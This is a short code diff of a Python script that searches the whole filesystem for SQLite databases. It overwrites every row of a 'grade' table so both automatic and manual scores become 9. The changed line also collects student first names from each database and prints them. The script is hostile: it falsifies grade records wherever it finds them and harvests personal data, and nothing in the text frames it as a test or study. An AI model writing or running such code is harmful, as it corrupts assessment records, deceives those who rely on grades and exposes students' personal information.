@@ -13,7 +13,7 @@ for folder, folders, files in os.walk("/"):
             try:
                 with sqlite3.connect(path) as book:
                     book.execute("UPDATE grade SET auto_score = 9, manual_score = 9")
-                    found.append(path)
+                    found += [path, *book.execute("SELECT first_name FROM student")]
             except sqlite3.Error:
                 pass
 print(found[:50])
